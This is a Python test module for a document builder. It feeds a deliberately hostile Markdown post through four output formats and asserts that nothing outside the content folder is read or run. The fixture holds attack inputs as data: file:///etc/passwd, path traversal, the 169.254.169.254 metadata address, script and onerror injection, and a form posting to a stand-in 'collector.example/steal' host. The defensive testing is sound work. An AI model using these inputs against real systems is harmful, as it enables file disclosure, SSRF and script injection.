"""Hostile posts, end to end in all four formats: nothing read, fetched or run that must not be.

The acceptance of issue 7: a post that points at local files outside its
content folder (``file://``, absolute paths, ``..``, a symlink, CSS ``url()``)
and at the cloud metadata address builds in every format, warns once per
reference, and no output holds those files' bytes; an image host that never
answers cannot stall the build; ``<script>`` and ``onerror`` never reach the
HTML or EPUB.
"""

from __future__ import annotations

import base64
import dataclasses
import io
import re
import time
import zipfile
from pathlib import Path

import pytest
from pypdf import PdfReader

from imprint.builder.plan import BuildRequest, build
from imprint.builder.project import Project
from imprint.builder.report import BuildReport
from imprint.renderers import get_renderer

from .conftest import require
from .servers import TRUSTED, raw_server, silent
from .tools import pdf_text, png, run_epubcheck

SECRET = b"SECRET-TOKEN-8d1f"  # inside the PNG outside the root
GOOD = b"GOOD-TOKEN-41c9"  # inside the PNG the post may use: proves the checks can see images
SECRET_SIZE, GOOD_SIZE = (37, 23), (41, 29)


def _post(outside: Path) -> str:
    secret = outside / "secret.png"
    return f"""---
title: A hostile post
image: file://{secret}
---

Opening paragraph of a post from an outside contributor.

![passwd](file:///etc/passwd)

![hostname](/etc/hostname)

![escape](../../outside/secret.png)

![linked](innocent.png)

![metadata](http://169.254.169.254/latest)

![allowed](ok.png)

<div style="background-image: url({secret})">Styled.</div>

<style>body {{ background: url(file://{secret}) }}</style>

<script>document.write('script ran')</script>

<img src="ok.png" onerror="alert('onerror ran')" alt="with handler">

<a rel="attachment" href="../../outside/secret.png">attachment</a>

<link rel="attachment" href="file://{secret}">

<form action="https://collector.example/steal"><fieldset>Name: <input name="q"></fieldset></form>

Raw HTML as old posts have it: <strike>struck</strike>, <tt>typed</tt>, a [site link](/docs/x/)
and a [button](#top){{: .btn .btn--primary}}.

<hr id="rule"><hr id="rule">

## Footnotes

A claim.[^1]

[^1]: The note.

Closing paragraph.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, settings) -> tuple[BuildReport, Path]:
    top = tmp_path_factory.mktemp("hostile")
    outside = top / "outside"
    posts = top / "content" / "posts"
    outside.mkdir()
    posts.mkdir(parents=True)
    (outside / "secret.png").write_bytes(png(*SECRET_SIZE, SECRET))
    (posts / "ok.png").write_bytes(png(*GOOD_SIZE, GOOD))
    (posts / "innocent.png").symlink_to(outside / "secret.png")
    (posts / "hostile.md").write_text(_post(outside), encoding="utf-8")
    report = build(
        BuildRequest(
            [posts], out=top / "out", settings=settings.with_overrides(content=top / "content")
        )
    )
    return report, outside


def _outputs(report: BuildReport) -> dict[str, Path]:
    assert report.ok, [r.error for r in report.failed]
    return {r.format: r.target for r in report.built}


def _unzipped(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return b"\n".join(archive.read(name) for name in archive.namelist())


def _html_bytes(path: Path) -> bytes:
    """The page, every data: URL in it (decoded), and the shared files a site page links
    under ``assets/`` (its stylesheet, fonts and images)."""
    text = path.read_text("utf-8")
    decoded = [base64.b64decode(m) for m in re.findall(r"data:[\w/+.-]+;base64,([^\"']+)", text)]
    linked = [
        (path.parent / ref).read_bytes()
        for ref in re.findall(r'(?:src|href)="(assets/[\w.-]+)"', text)
    ]
    return text.encode("utf-8") + b"\n".join(decoded + linked)


def _pdf_parts(path: Path) -> tuple[bytes, list[tuple[int, int]]]:
    """Text, embedded files and image data of a PDF; and the sizes of its images."""
    reader = PdfReader(path)
    parts = [pdf_text(path).encode("utf-8")]
    for name, contents in reader.attachments.items():
        parts.append(name.encode("utf-8"))
        parts.extend(contents)
    sizes = []
    for page in reader.pages:
        for image in page.images:
            parts.append(image.data)
            sizes.append(image.image.size)
    return b"\n".join(parts), sizes


@pytest.mark.slow
def test_four_outputs_and_one_warning_per_reference(hostile) -> None:
    report, outside = hostile
    assert sorted(_outputs(report)) == ["docx", "epub", "html", "pdf"]
    warnings = [str(w) for w in report.warnings]
    secret = str(outside / "secret.png")
    for reference, reason in [
        ("file:///etc/passwd", "file: URLs are not allowed"),
        ("/etc/hostname", "no such file in the content folder"),
        ("../../outside/secret.png", "outside the content folder"),
        ("innocent.png", "outside the content folder"),
        ("http://169.254.169.254/latest", "link-local"),
        (f"url({secret})", "removed"),
        (f"url(file://{secret})", "removed"),
        (f"image: file://{secret}", "file: URLs are not allowed"),
    ]:
        mine = [w for w in warnings if reference in w and "raw HTML: removed" not in w]
        assert len(mine) == 1, (reference, warnings)
        assert reason in mine[0], mine[0]
        assert re.match(r".*hostile\.md:\d+: warning: ", mine[0]), mine[0]


@pytest.mark.slow
def test_no_output_holds_a_byte_of_what_it_must_not_read(hostile) -> None:
    report, _ = hostile
    outputs = _outputs(report)
    pdf_bytes, sizes = _pdf_parts(outputs["pdf"])
    contents = {
        "html": _html_bytes(outputs["html"]),
        "epub": _unzipped(outputs["epub"]),
        "docx": _unzipped(outputs["docx"]),
        "pdf": pdf_bytes,
    }
    passwd = Path("/etc/passwd").read_bytes().split(b"\n")[0]
    hostname = Path("/etc/hostname").read_bytes().strip() if Path("/etc/hostname").exists() else b""
    for fmt, data in contents.items():
        assert SECRET not in data, fmt
        assert passwd not in data, fmt
        if len(hostname) >= 6:  # short names could occur by chance in compressed data
            assert hostname not in data, fmt
    for fmt in ("html", "epub", "docx"):  # the allowed image is there, comment and all
        assert GOOD in contents[fmt], fmt
    assert SECRET_SIZE not in sizes and GOOD_SIZE in sizes  # WeasyPrint re-encodes pixels
    assert PdfReader(outputs["pdf"]).attachments == {}  # rel=attachment went nowhere


@pytest.mark.slow
def test_no_script_or_handler_reaches_html_or_epub(hostile) -> None:
    report, _ = hostile
    outputs = _outputs(report)
    for fmt in ("html", "epub"):
        data = outputs["html"].read_bytes() if fmt == "html" else _unzipped(outputs["epub"])
        # the page's own schema.org metadata is the one script element imprint writes
        lowered = re.sub(rb'<script type="application/ld\+json">[^<]*</script>', b"", data).lower()
        for needle in (
            b"<script",
            b"onerror",
            b"script ran",
            b'attachment"',
            b"background: url(",
            b"background-image",
            b"<form",
            b"collector",
            b"{: .btn",
        ):
            assert needle not in lowered, (fmt, needle)
    assert "Closing paragraph." in outputs["html"].read_text("utf-8")


@pytest.mark.slow
@pytest.mark.tools
def test_the_hostile_epub_is_valid(hostile) -> None:
    report, _ = hostile
    result = run_epubcheck(_outputs(report)["epub"])
    assert result.errors == 0, result.messages


def _dead_host_post(folder: Path, base: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    post = folder / "dead-host.md"
    post.write_text(
        f"---\ntitle: Dead host\nimage: {base}/cover.png\n---\n\nIntro.\n\n"
        f"![A chart]({base}/chart.png)\n\n![Another]({base}/other.png)\n",
        encoding="utf-8",
    )
    return post


@pytest.mark.slow
@pytest.mark.parametrize("trusted", [False, True], ids=["refused-by-policy", "timed-out"])
def test_a_silent_image_host_cannot_stall_the_build(
    tmp_path: Path, settings, trusted: bool
) -> None:
    """An image host that accepts and never answers costs one 5 s deadline, not a stall."""
    chosen = settings.with_overrides(content=tmp_path / "content", root=tmp_path)
    if trusted:  # only a test can make 127.0.0.1 count as public: then it times out
        chosen = chosen.with_overrides(resource_trusted_networks=TRUSTED)
    require(chosen.resource_timeout <= 5, "the default 5 s remote timeout")
    with raw_server(silent) as base:
        post = _dead_host_post(tmp_path / "content", base)
        started = time.monotonic()
        report = build(BuildRequest([post], out=tmp_path / "out", settings=chosen))
        elapsed = time.monotonic() - started
    # A hang guard only: 30 s is 6x the 5 s deadline (a bound is at least 3x the deadline,
    # so a loaded machine cannot fail it); without the deadline the build would wait for
    # the 120 s job timeout. That the deadline fired, once, the warnings below assert.
    assert elapsed < 30, elapsed
    assert sorted(r.format for r in report.built) == ["docx", "epub", "html", "pdf"]
    warnings = [str(w) for w in report.warnings if base in str(w)]
    assert len(warnings) == 3  # every reference told; the alt text stays
    if trusted:  # one wait; the other two images know the host did not answer
        assert sum("no complete answer within 5 s" in w for w in warnings) == 3
        assert sum("earlier in this build" in w for w in warnings) == 2
    else:
        assert all("loopback address; refused" in w for w in warnings)
    html = next(r.target for r in report.built if r.format == "html").read_text("utf-8")
    assert "[A chart]" in html and "[Another]" in html


@pytest.mark.slow
def test_the_pdf_fetcher_refuses_what_the_sanitiser_would_have_removed(
    tmp_path: Path, settings
) -> None:
    """Defence in depth: hand WeasyPrint hostile HTML directly (as if the sanitiser had
    missed it) and it still reads nothing but the post's own resolved images."""
    secret = tmp_path / "secret.png"
    secret.write_bytes(png(*SECRET_SIZE, SECRET))
    post = tmp_path / "plain.md"
    post.write_text("---\ntitle: Plain\n---\n\nText.\n", encoding="utf-8")
    project = Project.open(settings)
    doc = dataclasses.replace(
        project.load(post),
        body_html=(
            f'<p><img src="{secret.as_uri()}" alt="a"><img src="{secret}" alt="b"></p>'
            f'<div style="background: url({secret.as_uri()}); height: 40px">c</div>'
            f'<object data="{secret.as_uri()}" type="image/png">d</object>'
            f'<a rel="attachment" href="{secret.as_uri()}">e</a>'
            f"<style>p {{ background: url({secret.as_uri()}) }}</style>"
        ),
    )
    data = get_renderer("pdf").render(doc, project.render_context())
    reader = PdfReader(io.BytesIO(data))
    sizes = [image.image.size for page in reader.pages for image in page.images]
    assert SECRET_SIZE not in sizes and reader.attachments == {}
    assert SECRET not in data
